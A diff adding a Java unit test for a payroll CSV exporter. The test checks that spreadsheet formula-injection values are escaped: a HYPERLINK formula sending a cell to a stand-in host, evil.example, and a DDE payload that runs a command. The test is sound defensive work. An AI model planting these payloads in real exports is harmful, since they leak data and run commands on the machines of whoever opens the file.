@@ -57,6 +57,17 @@ class PayrollCsvTest {
     }
 
     @Test
+    void aHostileReferenceComesBackInertNotAsAFormula() {
+        String row = PayrollCsv.resultRow(4, ComplianceResult.newBuilder()
+                .setReference("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")").setCompliant(true)
+                .setCountedPay("1600.00").setMinimumRequired("1500.00").setShortfall("0.00").build());
+        assertTrue(row.startsWith("4,\"'=HYPERLINK("), row);
+        String plus = PayrollCsv.resultRow(5, ComplianceResult.newBuilder().setReference("@SUM(1+1)*cmd|' /C calc'!A0")
+                .build());
+        assertTrue(plus.startsWith("5,\"'@SUM("), plus);
+    }
+
+    @Test
     void serviceFieldPathsMapToFormFields() {
         assertEquals("grossPay", WagePages.recordField("records[0].grossPay"));
         assertEquals("date", WagePages.recordField("date"));
